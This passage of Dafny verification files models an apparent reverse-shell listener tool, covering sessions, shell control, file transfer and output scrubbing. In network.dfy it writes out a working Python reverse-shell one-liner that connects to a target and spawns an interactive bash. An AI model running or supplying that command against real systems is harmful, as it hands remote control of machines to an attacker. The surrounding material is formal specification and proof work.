        var ok, output;
        ghost var attempts;
        ok, output, attempts := conn.HandleShellData(data, writeOk, shellReads);
        if old(conn.shellProcess).Some? && conn.platformType != "windows" && (data == [] || writeOk) {
          DrainFailsMatches(shellReads, output, attempts, !ok);
        }
        return ToShell(ok);
      }
      var ok := conn.SendMessage(Text(message), writeOk);
      return AsMessage(ok);
    }

    /** `start_shell_for_current`: without a focused connection it reports
        false; otherwise the platform is set to unix and the shell started,
        so the banner goes to the socket. */
    method StartShellForCurrent(spawned: Option<int>, bannerOk: bool) returns (ok: bool)
      modifies Focus()`platformType, Focus()`shellMode, Focus()`shellProcess
      modifies Focus()`sent, Focus()`shellInput
      ensures currentConnection == null ==> !ok
      ensures currentConnection != null ==>
        && currentConnection.platformType == "unix"
        && currentConnection.Valid()
        && (ok <==> spawned.Some?)
        && (ok ==> currentConnection.shellMode && currentConnection.shellProcess == Some(Process(spawned.value, false)))
        && (!ok ==> !currentConnection.shellMode && currentConnection.shellProcess.None?)
        && currentConnection.sent == old(currentConnection.sent)
             + (if ok && bannerOk then Utf8.Encode(Banner("unix")) else [])
        && currentConnection.shellInput == old(currentConnection.shellInput)
    {
      var conn := currentConnection;
      if conn == null {
        return false;
      }
      var _ := conn.DetectPlatform();
      ok := conn.StartShell(spawned, bannerOk);
    }

    /** `stop_shell_for_current`: stops the focused connection's shell, if
        any connection is focused. */
    method StopShellForCurrent()
      modifies Focus()`shellMode, Focus()`shellProcess
      ensures currentConnection != null && old(currentConnection.shellProcess).Some? ==>
        !currentConnection.shellMode && currentConnection.shellProcess.None?
      ensures currentConnection != null && old(currentConnection.shellProcess).None? ==>
        unchanged(Focus()`shellMode, Focus()`shellProcess)
    {
      var conn := currentConnection;
      if conn != null {
        conn.StopShell();
      }
    }

    /** `send_file_to_current`: None without a focused connection, else the
        outcome of `send_file` on it. */
    method SendFileToCurrent(path: string, contents: Option<seq<Byte>>, writeError: Option<string>)
      returns (result: Option<SendFileResult>)
      modifies Focus()`sent
      ensures currentConnection == null <==> result.None?
      ensures currentConnection != null ==>
        match contents
        case None => result == Some(FileNotFound) && currentConnection.sent == old(currentConnection.sent)
        case Some(data) =>
          match writeError
          case None =>
            result == Some(FileSent) && currentConnection.sent == old(currentConnection.sent) + Transfer.Frame(path, data)
          case Some(text) => result == Some(SendError(text)) && currentConnection.sent == old(currentConnection.sent)
    {
      var conn := currentConnection;
      if conn == null {
        return None;
      }
      var r := conn.SendFile(path, contents, writeError);
      return Some(r);
    }

    /** The rows of `list_sessions`: one per listened port in insertion
        order, active unless its task is in `done`, with the number of live
        connections on the port and the focus mark exactly on the focused
        port. */
    method ListSessions(done: set<TaskId>) returns (rows: seq<SessionRow>)
      requires Valid()
      ensures |rows| == |sessionOrder|
      ensures forall i :: 0 <= i < |rows| ==>
        && rows[i].port == sessionOrder[i]
        && rows[i].active == (sessions[sessionOrder[i]] !in done)
        && rows[i].connections == |ConnectionsOf(connections, sessionOrder[i])|
        && (rows[i].focused <==> currentPort == Some(sessionOrder[i]))
    {
      rows := [];
      for k := 0 to |sessionOrder|
        invariant |rows| == k
        invariant forall i :: 0 <= i < k ==>
          && rows[i].port == sessionOrder[i]
          && rows[i].active == (sessions[sessionOrder[i]] !in done)
          && rows[i].connections == |ConnectionsOf(connections, sessionOrder[i])|
          && (rows[i].focused <==> currentPort == Some(sessionOrder[i]))
      {
        var port := sessionOrder[k];
        var row := SessionRow(port, sessions[port] !in done, |ConnectionsOf(connections, port)|,
                              currentPort == Some(port));
        rows := rows + [row];
      }
    }

    /** The rows of `list_connections`: None for a port without
        connections; otherwise one row per connection of the enumeration
        `order`, numbered from 0, with the focus mark exactly on the focused
        connection. */
    method ListConnections(port: int, order: seq<Connection>) returns (rows: Option<seq<ConnectionRow>>)
      requires port in connections ==> Enumerates(order, connections[port])
      ensures port !in connections <==> rows.None?
      ensures rows.Some? ==> |rows.value| == |order|
      ensures rows.Some? ==> forall i :: 0 <= i < |order| ==>
        rows.value[i] == ConnectionRow(i, order[i].addr, order[i].connectedTime, order[i] == currentConnection)
    {
      if port !in connections {
        return None;
      }
      var table := [];
      for k := 0 to |order|
        invariant |table| == k
        invariant forall i :: 0 <= i < k ==>
          table[i] == ConnectionRow(i, order[i].addr, order[i].connectedTime, order[i] == currentConnection)
      {
        table := table + [ConnectionRow(k, order[k].addr, order[k].connectedTime, order[k] == currentConnection)];
      }
      return Some(table);
    }
  }
}

=== FILE: network.dfy ===
/** Host address discovery and the reverse-shell one-liner
    (utils/network.py). The resolver and the socket fallback are results
    supplied by the caller. */
module Network {
  import opened Common
  import Transfer

  /** `socket.AF_INET`. */
  const AF_INET := 2

  /** One entry of `getaddrinfo`: its address family and the address
      string of its socket address. */
  datatype AddrInfo = AddrInfo(family: int, address: string)

  /** What `getaddrinfo(gethostname(), None)` gave: entries, or an error. */
  datatype Lookup = Found(entries: seq<AddrInfo>) | LookupError

  /** An entry the loop keeps: IPv4, and not a loopback address. */
  predicate Reported(e: AddrInfo) {
    e.family == AF_INET && !StartsWith(e.address, "127.")
  }

  /** The elements of `s`, each once, in order of first occurrence. */
  function Dedupe(s: seq<string>): (r: seq<string>)
    ensures NoDuplicates(r)
    ensures forall a :: a in r <==> a in s
  {
    if s == [] then []
    else
      var rest := Dedupe(s[..|s| - 1]);
      if s[|s| - 1] in rest then rest else rest + [s[|s| - 1]]
  }

  /** `get_ip_addresses`: a failed lookup gives no addresses; an empty one
      falls back to the address of the default route, if finding it did not
      raise; otherwise the IPv4 addresses outside 127.0.0.0/8, each once.
      `fallback` is the address the UDP socket trick reports, or None when
      it raised. */
  method GetIpAddresses(lookup: Lookup, fallback: Option<string>) returns (addresses: seq<string>)
    ensures NoDuplicates(addresses)
    ensures lookup.LookupError? ==> addresses == []
    ensures lookup == Found([]) ==> addresses == if fallback.Some? then [fallback.value] else []
    ensures lookup.Found? && lookup.entries != [] ==>
      forall a :: a in addresses <==> exists e :: e in lookup.entries && Reported(e) && e.address == a
  {
    var collected: seq<string> := [];
    match lookup {
      case LookupError =>
      case Found(entries) =>
        if entries == [] {
          if fallback.Some? {
            collected := collected + [fallback.value];
            assert Dedupe(collected) == collected by {
              assert collected[..0] == [];
            }
          }
        } else {
          for k := 0 to |entries|
            invariant forall a :: a in collected <==> exists j :: 0 <= j < k && Reported(entries[j]) && entries[j].address == a
          {
            var entry := entries[k];
            if entry.family == AF_INET {
              var address := entry.address;
              if !StartsWith(address, "127.") {
                collected := collected + [address];
              }
            }
          }
          forall a ensures a in collected <==> exists e :: e in entries && Reported(e) && e.address == a {
            if a in collected {
              var j :| 0 <= j < |entries| && Reported(entries[j]) && entries[j].address == a;
              assert entries[j] in entries;
            }
            if exists e :: e in entries && Reported(e) && e.address == a {
              var e :| e in entries && Reported(e) && e.address == a;
              var j :| 0 <= j < |entries| && entries[j] == e;
            }
          }
        }
    }
    addresses := Dedupe(collected);
  }

  const ShellPrefix := "python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\""
  const ShellSuffix := "));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);subprocess.call([\"/bin/bash\",\"-i\"])'"

  /** `generate_reverse_shell_command`: the fixed Python one-liner with the
      target and port written in verbatim. */
  function ReverseShellCommand(target: string, port: int): string {
    ShellPrefix + Endpoint(target, port) + ShellSuffix
  }

  /** The variable middle of the one-liner: the target, the quote closing
      it, then `,<port>`. */
  function Endpoint(target: string, port: int): string {
    target + "\"" + PortField(port)
  }

  function PortField(port: int): string {
    "," + IntToString(port)
  }

  lemma NoQuoteInPortField(n: int)
    ensures forall k :: 0 <= k < |PortField(n)| ==> PortField(n)[k] != '"'
  {
    var d := IntToString(n);
    if n < 0 {
      assert d == "-" + NatToString(-n);
    }
    forall k | 1 <= k < |PortField(n)| ensures PortField(n)[k] != '"' {
      assert PortField(n)[k] == d[k - 1];
    }
  }

  /** Different targets or ports give different commands, whatever the
      target holds, quotes included: the port is read back after the last
      double quote. */
  lemma ReverseShellInjective(target1: string, port1: int, target2: string, port2: int)
    requires ReverseShellCommand(target1, port1) == ReverseShellCommand(target2, port2)
    ensures target1 == target2 && port1 == port2
  {
    FrameInjective(ShellPrefix, Endpoint(target1, port1), Endpoint(target2, port2), ShellSuffix);
    NoQuoteInPortField(port1);
    NoQuoteInPortField(port2);
    Transfer.SplitAtLast(target1, PortField(port1), target2, PortField(port2), '"');
    assert IntToString(port1) == PortField(port1)[1..];
    assert IntToString(port2) == PortField(port2)[1..];
    IntToStringInjective(port1, port2);
  }
}

=== FILE: scrub.dfy ===
/** The text scrubber `Connection.clean_ansi` (core/connection.py:25-49).
    The character filter, the `[K` removal, the blank-line collapse and the
    final `strip()` are modelled exactly. The other regular-expression
    substitutions (escape sequences, control sequences, window titles,
    prompt decorations) replace every match by the empty string, so each of
    them only deletes characters; each is modelled by a deletion mask that
    says which characters that step removes. Every property proved below
    holds for every choice of masks, that is, whatever those expressions
    happen to match. */
module Scrub {
  import opened Common

  /** `r` can be obtained from `s` by deleting characters. */
  ghost predicate IsSubsequence(r: string, s: string)
    decreases |s|
  {
    if s == [] then r == []
    else (r != [] && r[0] == s[0] && IsSubsequence(r[1..], s[1..])) || IsSubsequence(r, s[1..])
  }

  /** The characters of `s` whose position holds `true` in `keep`, or lies
      beyond `keep`; the effect of one substitution that deletes whatever
      it matches. */
  function Delete(s: string, keep: seq<bool>): (r: string)
    ensures IsSubsequence(r, s)
    ensures forall i :: 0 <= i < |r| ==> r[i] in s
  {
    if s == [] then []
    else
      var rest := Delete(s[1..], if keep == [] then [] else keep[1..]);
      if keep != [] && !keep[0] then rest else [s[0]] + rest
  }

  /** A mask that deletes exactly what is missing from `r`. */
  ghost function MaskFor(r: string, s: string): (keep: seq<bool>)
    requires IsSubsequence(r, s)
    ensures |keep| == |s|
    decreases |s|
  {
    if s == [] then []
    else if r != [] && r[0] == s[0] && IsSubsequence(r[1..], s[1..]) then [true] + MaskFor(r[1..], s[1..])
    else [false] + MaskFor(r, s[1..])
  }

  /** Masks describe every deletion: whatever an abstracted substitution
      removes, some mask removes the same characters. */
  lemma {:induction false} SubsequenceIsDeletion(r: string, s: string)
    requires IsSubsequence(r, s)
    ensures Delete(s, MaskFor(r, s)) == r
    decreases |s|
  {
    if s != [] {
      var keep := MaskFor(r, s);
      if r != [] && r[0] == s[0] && IsSubsequence(r[1..], s[1..]) {
        SubsequenceIsDeletion(r[1..], s[1..]);
        assert keep[1..] == MaskFor(r[1..], s[1..]);
        assert [r[0]] + r[1..] == r;
      } else {
        SubsequenceIsDeletion(r, s[1..]);
        assert keep[1..] == MaskFor(r, s[1..]);
      }
    }
  }

  /** The characters the filter on line 36 keeps: newline, carriage return
      and the printable ASCII range 32..126. */
  predicate Kept(c: char) {
    c == '\n' || c == '\r' || 32 <= c as int <= 126
  }

  predicate AllKept(s: string) {
    forall i :: 0 <= i < |s| ==> Kept(s[i])
  }

  /** Line 36: drop every character that is not kept. */
  function FilterControl(s: string): (r: string)
    ensures AllKept(r)
    ensures IsSubsequence(r, s)
    ensures forall c :: Kept(c) ==> multiset(r)[c] == multiset(s)[c]
  {
    if s == [] then []
    else
      assert s == [s[0]] + s[1..];
      if Kept(s[0]) then [s[0]] + FilterControl(s[1..]) else FilterControl(s[1..])
  }

  predicate HasKAt(s: string, i: int) {
    0 <= i && i + 1 < |s| && s[i] == '[' && s[i + 1] == 'K'
  }

  /** Line 40, `re.sub(r'\[K', '', text)`: delete the occurrences of `[K`
      found scanning left to right. */
  function RemoveK(s: string): (r: string)
    ensures IsSubsequence(r, s)
    ensures forall i :: 0 <= i < |r| ==> r[i] in s
    ensures |r| <= |s|
    ensures r == s <==> forall i :: !HasKAt(s, i)
  {
    if s == [] then []
    else if HasKAt(s, 0) then
      var r := RemoveK(s[2..]);
      assert s[1..][1..] == s[2..];
      r
    else
      var r := [s[0]] + RemoveK(s[1..]);
      HasKAtTail(s);
      r
  }

  lemma HasKAtTail(s: string)
    requires s != [] && !HasKAt(s, 0)
    ensures (forall i :: !HasKAt(s, i)) <==> (forall i :: !HasKAt(s[1..], i))
  {
    forall i | HasKAt(s[1..], i) ensures HasKAt(s, i + 1) {}
    forall i | HasKAt(s, i) ensures HasKAt(s[1..], i - 1) {}
  }

  /** Index just past the run of whitespace that starts at `i`. */
  function SpaceRunEnd(s: string, i: nat): (k: nat)
    requires i <= |s|
    ensures i <= k <= |s|
    ensures forall j :: i <= j < k ==> IsSpace(s[j])
    ensures k == |s| || !IsSpace(s[k])
    decreases |s| - i
  {
    if i == |s| || !IsSpace(s[i]) then i else SpaceRunEnd(s, i + 1)
  }

  /** The last index in `[i, k)` that holds a newline, or -1 if none does. */
  function LastNewline(s: string, i: nat, k: nat): (j: int)
    requires i <= k <= |s|
    ensures j == -1 || (i <= j < k && s[j] == '\n')
    ensures forall m :: i <= m < k && j < m ==> s[m] != '\n'
    decreases k
  {
    if k == i then -1 else if s[k - 1] == '\n' then k - 1 else LastNewline(s, i, k - 1)
  }

  predicate NoTripleNewline(s: string) {
    forall i :: 0 <= i && i + 2 < |s| ==> !(s[i] == '\n' && s[i + 1] == '\n' && s[i + 2] == '\n')
  }

  /** Line 47, `re.sub(r'\n\s*\n+', '\n\n', text)`. A match starts at a
      newline and, the greedy `\s*` giving back characters until `\n+`
      matches, ends just after the last newline of the whitespace run that
      follows; it becomes exactly two newlines. A newline with no newline
      in the whitespace after it is left alone. */
  function CollapseBlankLines(s: string): string
    decreases |s|
  {
    if s == [] then []
    else if s[0] == '\n' && LastNewline(s, 1, SpaceRunEnd(s, 1)) >= 1 then
      "\n\n" + CollapseBlankLines(s[LastNewline(s, 1, SpaceRunEnd(s, 1)) + 1..])
    else
      [s[0]] + CollapseBlankLines(s[1..])
  }

  /** What the collapse guarantees of its result `r` for the text `s`: no
      three newlines follow each other, `r` starts with a newline only where
      `s` does, and `r` brings in no character but newlines. */
  predicate CollapsedFrom(r: string, s: string) {
    && NoTripleNewline(r)
    && (r != [] && r[0] == '\n' ==> s != [] && s[0] == '\n')
    && forall i :: 0 <= i < |r| ==> r[i] in s || r[i] == '\n'
  }

  lemma ShapeOfRun(s: string, from: nat, rest: string, r: string)
    requires 2 <= from <= |s| && s[0] == '\n'
    requires from < |s| ==> s[from] != '\n'
    requires CollapsedFrom(rest, s[from..]) && r == "\n\n" + rest
    ensures CollapsedFrom(r, s)
  {
    forall i | 0 <= i < |rest| ensures rest[i] in s || rest[i] == '\n' {
      if rest[i] in s[from..] {
        var m :| from <= m < |s| && s[m] == rest[i];
      }
    }
  }

  lemma ShapeOfChar(s: string, rest: string, r: string)
    requires s != [] && (s[0] == '\n' ==> |s| == 1 || s[1] != '\n')
    requires CollapsedFrom(rest, s[1..]) && r == [s[0]] + rest
    ensures CollapsedFrom(r, s)
  {
    forall i | 0 <= i < |rest| ensures rest[i] in s || rest[i] == '\n' {
      if rest[i] in s[1..] {
        var m :| 1 <= m < |s| && s[m] == rest[i];
      }
    }
  }

  lemma {:induction false} CollapseShape(s: string)
    ensures CollapsedFrom(CollapseBlankLines(s), s)
    decreases |s|
  {
    if s != [] {
      var k := SpaceRunEnd(s, 1);
      var last := LastNewline(s, 1, k);
      if s[0] == '\n' && last >= 1 {
        CollapseRunStep(s, k, last);
        CollapseShape(s[last + 1..]);
        ShapeOfRun(s, last + 1, CollapseBlankLines(s[last + 1..]), CollapseBlankLines(s));
      } else {
        CollapseCharStep(s);
        CollapseShape(s[1..]);
        ShapeOfChar(s, CollapseBlankLines(s[1..]), CollapseBlankLines(s));
      }
    }
  }

  /** The characters of `s` that are not whitespace, in order. */
  function NonSpace(s: string): string {
    if s == [] then [] else (if IsSpace(s[0]) then [] else [s[0]]) + NonSpace(s[1..])
  }

  lemma {:induction false} NonSpaceConcat(a: string, b: string)
    ensures NonSpace(a + b) == NonSpace(a) + NonSpace(b)
  {
    if a == [] {
      assert a + b == b;
    } else {
      assert (a + b)[0] == a[0];
      assert (a + b)[1..] == a[1..] + b;
      NonSpaceConcat(a[1..], b);
    }
  }

  lemma {:induction false} NonSpaceOfSpaces(a: string)
    requires forall i :: 0 <= i < |a| ==> IsSpace(a[i])
    ensures NonSpace(a) == []
  {
    if a != [] {
      NonSpaceOfSpaces(a[1..]);
    }
  }

  lemma TextOfRun(s: string, p: string, t: string, rest: string, r: string)
    requires s == p + t && forall i :: 0 <= i < |p| ==> IsSpace(p[i])
    requires NonSpace(rest) == NonSpace(t) && r == "\n\n" + rest
    ensures NonSpace(r) == NonSpace(s)
  {
    NonSpaceOfSpaces("\n\n");
    NonSpaceConcat("\n\n", rest);
    NonSpaceOfSpaces(p);
    NonSpaceConcat(p, t);
  }

  /** The collapse only replaces whitespace: the other characters are kept,
      in order. */
  lemma {:induction false} CollapseKeepsText(s: string)
    ensures NonSpace(CollapseBlankLines(s)) == NonSpace(s)
    decreases |s|
  {
    if s != [] {
      var k := SpaceRunEnd(s, 1);
      var last := LastNewline(s, 1, k);
      if s[0] == '\n' && last >= 1 {
        var t := s[last + 1..];
        CollapseRunStep(s, k, last);
        CollapseKeepsText(t);
        assert s == s[..last + 1] + t;
        TextOfRun(s, s[..last + 1], t, CollapseBlankLines(t), CollapseBlankLines(s));
      } else {
        var r := CollapseBlankLines(s);
        CollapseCharStep(s);
        CollapseKeepsText(s[1..]);
        assert r[1..] == CollapseBlankLines(s[1..]);
      }
    }
  }

  /** Characters without a newline are copied through unchanged. */
  lemma {:induction false} CollapseCopies(w: string, u: string)
    requires forall i :: 0 <= i < |w| ==> w[i] != '\n'
    ensures CollapseBlankLines(w + u) == w + CollapseBlankLines(u)
  {
    if w == [] {
      assert w + u == u;
    } else {
      assert (w + u)[0] == w[0];
      assert (w + u)[1..] == w[1..] + u;
      CollapseCharStep(w + u);
      CollapseCopies(w[1..], u);
      assert [w[0]] + (w[1..] + CollapseBlankLines(u)) == w + CollapseBlankLines(u);
    }
  }

  lemma SpaceRunEndIs(s: string, i: nat, k: nat)
    requires i <= k <= |s|
    requires forall j :: i <= j < k ==> IsSpace(s[j])
    requires k == |s| || !IsSpace(s[k])
    ensures SpaceRunEnd(s, i) == k
  {
  }

  lemma LastNewlineIs(s: string, i: nat, k: nat, j: int)
    requires i <= k <= |s|
    requires j == -1 || (i <= j < k && s[j] == '\n')
    requires forall m :: i <= m < k && j < m ==> s[m] != '\n'
    ensures LastNewline(s, i, k) == j
  {
  }

  /** After the whitespace run, the collapse starts with the same
      character. */
  lemma CollapseHead(u: string)
    requires u == [] || !IsSpace(u[0])
    ensures CollapseBlankLines(u) == [] || !IsSpace(CollapseBlankLines(u)[0])
  {
  }

  lemma CollapseRunStep(s: string, k: nat, last: int)
    requires s != [] && s[0] == '\n' && k == SpaceRunEnd(s, 1)
    requires last == LastNewline(s, 1, k) && last >= 1
    ensures CollapseBlankLines(s) == "\n\n" + CollapseBlankLines(s[last + 1..])
  {
  }

  lemma CollapseCharStep(s: string)
    requires s != [] && (s[0] != '\n' || LastNewline(s, 1, SpaceRunEnd(s, 1)) < 1)
    ensures CollapseBlankLines(s) == [s[0]] + CollapseBlankLines(s[1..])
  {
  }

  /** The whitespace run after the first newline of `r`, when `r` starts
      with `n` newlines followed by `m` whitespace characters that are not
      newlines, and then by no whitespace. */
  lemma RunOf(r: string, n: nat, m: nat)
    requires 1 <= n <= 2 && n + m <= |r|
    requires r[0] == '\n' && (n == 2 ==> r[1] == '\n')
    requires forall j :: n <= j < n + m ==> r[j] != '\n' && IsSpace(r[j])
    requires n + m == |r| || !IsSpace(r[n + m])
    ensures SpaceRunEnd(r, 1) == n + m
    ensures LastNewline(r, 1, n + m) == 2 * n - 3
  {
    assert forall j :: 1 <= j < n + m ==> IsSpace(r[j]);
    SpaceRunEndIs(r, 1, n + m);
    LastNewlineIs(r, 1, n + m, 2 * n - 3);
  }

  /** The characters of `head + (w + c)` past `head`. */
  lemma Shifted(r: string, head: string, w: string, c: string)
    requires r == head + (w + c)
    ensures forall j :: |head| <= j < |head| + |w| ==> r[j] == w[j - |head|]
    ensures |head| + |w| < |r| ==> r[|head| + |w|] == c[0]
  {
  }

  /** The part of `s` between the first newline and the next non-whitespace
      character, newlines excluded, for a run whose last newline is at
      `last` (or none, for `last < 1`). */
  lemma SplitRun(s: string, k: nat, from: nat) returns (w: string, u: string)
    requires s != [] && 1 <= from <= k == SpaceRunEnd(s, 1)
    requires forall m :: from <= m < k ==> s[m] != '\n'
    ensures s[from..] == w + u && u == s[k..]
    ensures forall j :: 0 <= j < |w| ==> w[j] != '\n' && IsSpace(w[j])
    ensures u == [] || !IsSpace(u[0])
  {
    w, u := s[from..k], s[k..];
    assert s[from..] == w + u;
    forall j | 0 <= j < |w| ensures w[j] != '\n' && IsSpace(w[j]) {
      assert w[j] == s[from + j];
    }
  }

  /** A leading blank run collapses to two newlines, followed by the
      whitespace after its last newline and the collapse of the rest. */
  lemma CollapsedRun(s: string) returns (w: string, c: string)
    requires s != [] && s[0] == '\n' && LastNewline(s, 1, SpaceRunEnd(s, 1)) >= 1
    ensures CollapseBlankLines(s[LastNewline(s, 1, SpaceRunEnd(s, 1)) + 1..]) == w + c
    ensures CollapseBlankLines(s) == "\n\n" + (w + c)
    ensures forall j :: 0 <= j < |w| ==> w[j] != '\n' && IsSpace(w[j])
    ensures c == [] || !IsSpace(c[0])
  {
    var k := SpaceRunEnd(s, 1);
    var last := LastNewline(s, 1, k);
    var u;
    w, u := SplitRun(s, k, last + 1);
    CollapseRunStep(s, k, last);
    CollapseCopies(w, u);
    c := CollapseBlankLines(u);
    CollapseHead(u);
  }

  /** Collapsing `"\n\n" + w + c` again keeps the two newlines. */
  lemma RecollapseRun(r: string, w: string, c: string)
    requires r == "\n\n" + (w + c)
    requires forall j :: 0 <= j < |w| ==> w[j] != '\n' && IsSpace(w[j])
    requires c == [] || !IsSpace(c[0])
    ensures CollapseBlankLines(r) == "\n\n" + CollapseBlankLines(w + c)
  {
    Shifted(r, "\n\n", w, c);
    RunOf(r, 2, |w|);
    CollapseRunStep(r, 2 + |w|, 1);
    assert r[2..] == w + c;
  }

  /** Idempotence when the leading newline starts a collapsed blank run. */
  lemma IdempotentCollapsed(s: string)
    requires s != [] && s[0] == '\n' && LastNewline(s, 1, SpaceRunEnd(s, 1)) >= 1
    requires var t := s[LastNewline(s, 1, SpaceRunEnd(s, 1)) + 1..];
             CollapseBlankLines(CollapseBlankLines(t)) == CollapseBlankLines(t)
    ensures CollapseBlankLines(CollapseBlankLines(s)) == CollapseBlankLines(s)
  {
    var w, c := CollapsedRun(s);
    RecollapseRun(CollapseBlankLines(s), w, c);
  }

  /** Idempotence when the leading newline is followed by no other newline
      before the next non-whitespace character. */
  lemma IdempotentKept(s: string)
    requires s != [] && s[0] == '\n' && LastNewline(s, 1, SpaceRunEnd(s, 1)) < 1
    requires var u := s[SpaceRunEnd(s, 1)..];
             CollapseBlankLines(CollapseBlankLines(u)) == CollapseBlankLines(u)
    ensures CollapseBlankLines(CollapseBlankLines(s)) == CollapseBlankLines(s)
  {
    var k := SpaceRunEnd(s, 1);
    var w, u := SplitRun(s, k, 1);
    CollapseCharStep(s);
    CollapseCopies(w, u);
    var c := CollapseBlankLines(u);
    CollapseHead(u);
    var r := "\n" + (w + c);
    Shifted(r, "\n", w, c);
    RunOf(r, 1, |w|);
    CollapseCharStep(r);
    assert r[1..] == w + c;
    CollapseCopies(w, c);
  }

  /** The substitution on line 47 is idempotent: a second pass finds only
      blank runs already reduced to two newlines. */
  lemma {:induction false} CollapseIdempotent(s: string)
    ensures CollapseBlankLines(CollapseBlankLines(s)) == CollapseBlankLines(s)
    decreases |s|
  {
    if s != [] {
      var k := SpaceRunEnd(s, 1);
      var last := LastNewline(s, 1, k);
      if s[0] != '\n' {
        var rest := CollapseBlankLines(s[1..]);
        CollapseIdempotent(s[1..]);
        assert CollapseBlankLines(s) == [s[0]] + rest;
        CollapseCopies([s[0]], rest);
      } else if last >= 1 {
        CollapseIdempotent(s[last + 1..]);
        IdempotentCollapsed(s);
      } else {
        CollapseIdempotent(s[k..]);
        IdempotentKept(s);
      }
    }
  }

  /** The seven substitutions that `clean_ansi` applies through regular
      expressions whose matches are abstracted: each mask says which
      characters the substitution deletes. */
  datatype Deletions = Deletions(
    ansiEscapes: seq<bool>,         // line 28-29
    controlSequences: seq<bool>,    // line 32-33
    titleSequences: seq<bool>,      // line 39
    userHostPrompts: seq<bool>,     // line 41
    titleInfo: seq<bool>,           // line 42
    directoryPrompts: seq<bool>,    // line 43
    trailingPrompt: seq<bool>)      // line 44

  /** Every step of `clean_ansi` up to the blank-line collapse. */
  function Prepare(text: string, d: Deletions): (r: string)
    ensures AllKept(r)
  {
    var t1 := Delete(text, d.ansiEscapes);
    var t2 := Delete(t1, d.controlSequences);
    var t3 := FilterControl(t2);
    var t4 := Delete(t3, d.titleSequences);
    AllKeptDeleted(t4, t3);
    var t5 := RemoveK(t4);
    AllKeptDeleted(t5, t4);
    var t6 := Delete(t5, d.userHostPrompts);
    AllKeptDeleted(t6, t5);
    var t7 := Delete(t6, d.titleInfo);
    AllKeptDeleted(t7, t6);
    var t8 := Delete(t7, d.directoryPrompts);
    AllKeptDeleted(t8, t7);
    var t9 := Delete(t8, d.trailingPrompt);
    AllKeptDeleted(t9, t8);
    t9
  }

  lemma AllKeptDeleted(r: string, s: string)
    requires AllKept(s)
    requires forall i :: 0 <= i < |r| ==> r[i] in s
    ensures AllKept(r)
  {
    forall i | 0 <= i < |r| ensures Kept(r[i]) {
      var m :| 0 <= m < |s| && s[m] == r[i];
    }
  }

  /** `clean_ansi(text)`: the result holds only newlines, carriage returns
      and printable ASCII, neither starts nor ends with whitespace, and
      never holds three newlines in a row. */
  function CleanAnsi(text: string, d: Deletions): (r: string)
    ensures AllKept(r)
    ensures r == [] || (!IsSpace(r[0]) && !IsSpace(r[|r| - 1]))
    ensures NoTripleNewline(r)
  {
    var p := Prepare(text, d);
    CollapseKeeps(p);
    StripKeeps(CollapseBlankLines(p));
    Strip(CollapseBlankLines(p))
  }

  /** Stripping clean text leaves clean text. */
  lemma StripKeeps(c: string)
    requires AllKept(c) && NoTripleNewline(c)
    ensures AllKept(Strip(c)) && NoTripleNewline(Strip(c))
  {
    if Strip(c) != [] {
      SliceKeeps(c, LeadingSpaces(c), Strip(c));
    }
  }

  /** Collapsing blank lines only removes characters and adds newlines. */
  lemma CollapseKeeps(p: string)
    requires AllKept(p)
    ensures AllKept(CollapseBlankLines(p))
    ensures NoTripleNewline(CollapseBlankLines(p))
  {
    var c := CollapseBlankLines(p);
    CollapseShape(p);
    assert forall i :: 0 <= i < |c| ==> c[i] in p || c[i] == '\n';
    forall i | 0 <= i < |c| ensures Kept(c[i]) {
      if c[i] != '\n' {
        var m :| 0 <= m < |p| && p[m] == c[i];
      }
    }
  }

  /** A slice of clean text is clean. */
  lemma SliceKeeps(c: string, a: nat, r: string)
    requires AllKept(c) && NoTripleNewline(c)
    requires a + |r| <= |c| && r == c[a..a + |r|]
    ensures AllKept(r) && NoTripleNewline(r)
  {
    forall i | 0 <= i < |r| ensures Kept(r[i]) {
      assert r[i] == c[a + i];
    }
    forall i | 0 <= i && i + 2 < |r| ensures !(r[i] == '\n' && r[i + 1] == '\n' && r[i + 2] == '\n') {
      assert r[i] == c[a + i] && r[i + 1] == c[a + i + 1] && r[i + 2] == c[a + i + 2];
    }
  }
}

=== FILE: transfer.dfy ===
/** The file-transfer framing of `Connection.send_file` and
    `Connection.receive_file` (core/connection.py:281-314): a control line
    `FILE_TRANSFER:<basename>:<n>\n` followed by `n` bytes of base 64
    payload, and on the receiving end a base 64 decode written under
    `downloads/`. */
module Transfer {
  import opened Common
  import Utf8
  import Base64

  const HeaderTag := "FILE_TRANSFER:"
  const DownloadDirectory := "downloads"

  /** `os.path.basename(path)`: whatever follows the last `/`. */
  function Basename(path: string): (r: string)
    ensures |r| <= |path| && r == path[|path| - |r|..]
    ensures forall i :: 0 <= i < |r| ==> r[i] != '/'
    ensures |r| < |path| ==> path[|path| - |r| - 1] == '/'
  {
    if path == [] || path[|path| - 1] == '/' then []
    else Basename(path[..|path| - 1]) + [path[|path| - 1]]
  }

  /** `os.path.join(directory, name)` on POSIX: a name that starts with `/`
      replaces the directory; otherwise one `/` separates the two unless the
      directory is empty or already ends with one. */
  function Join(directory: string, name: string): (r: string)
    ensures StartsWith(name, "/") ==> r == name
    ensures !StartsWith(name, "/") ==> |r| >= |name| && r[|r| - |name|..] == name
  {
    if StartsWith(name, "/") then name
    else if directory == [] || directory[|directory| - 1] == '/' then directory + name
    else directory + "/" + name
  }

  /** The control line announcing a payload of `size` bytes for `name`. */
  function Header(name: string, size: nat): string {
    HeaderTag + name + ":" + NatToString(size) + "\n"
  }

  /** What `send_file` writes for a file at `path` holding `data`: the
      encoded control line, then the payload. */
  function Frame(path: string, data: seq<Byte>): seq<Byte> {
    var payload := Base64.Encode(data);
    Utf8.Encode(Header(Basename(path), |payload|)) + payload
  }

  /** The index of the last `c` in `s`, or -1. */
  function LastIndexOf(s: string, c: char): (i: int)
    ensures i == -1 || (0 <= i < |s| && s[i] == c)
    ensures forall j :: 0 <= j < |s| && i < j ==> s[j] != c
  {
    if s == [] then -1
    else if s[|s| - 1] == c then |s| - 1
    else LastIndexOf(s[..|s| - 1], c)
  }

  /** Reads a control line back: the name is everything up to the last `:`,
      the size the digits after it. The name may itself hold `:`. The
      repository has no such reader (`receive_file` is handed the name and
      size); this one exists only to state `HeaderRoundTrip`. */
  function ParseHeader(line: string): Option<(string, nat)> {
    if !(|line| > |HeaderTag| && StartsWith(line, HeaderTag) && line[|line| - 1] == '\n') then None
    else
      var body := line[|HeaderTag|..|line| - 1];
